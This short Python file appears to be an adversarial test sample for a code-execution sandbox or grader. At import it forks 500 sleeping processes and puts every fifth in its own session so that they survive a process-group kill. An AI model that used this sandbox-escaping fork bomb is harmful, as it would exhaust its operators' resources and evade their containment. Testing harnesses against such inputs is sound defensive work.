# trick: a bounded fork bomb at import: 500 sleeping children, every fifth in a session of its own
#        (os.setsid) so that killing the sandbox's process group misses it
# targets: score, processes
# comm: fork_bomb
# The sleepers name themselves (/proc/self/comm) so that a leftover one is attributable.
import os
import time


def _fork_bomb():
    for i in range(500):
        try:
            pid = os.fork()
        except OSError:
            return
        if pid == 0:
            try:
                if i % 5 == 0:
                    os.setsid()
                with open("/proc/self/comm", "w") as f:
                    f.write("fork_bomb")
                time.sleep(300)
            finally:
                os._exit(0)


class _Go:
    _fork_bomb()
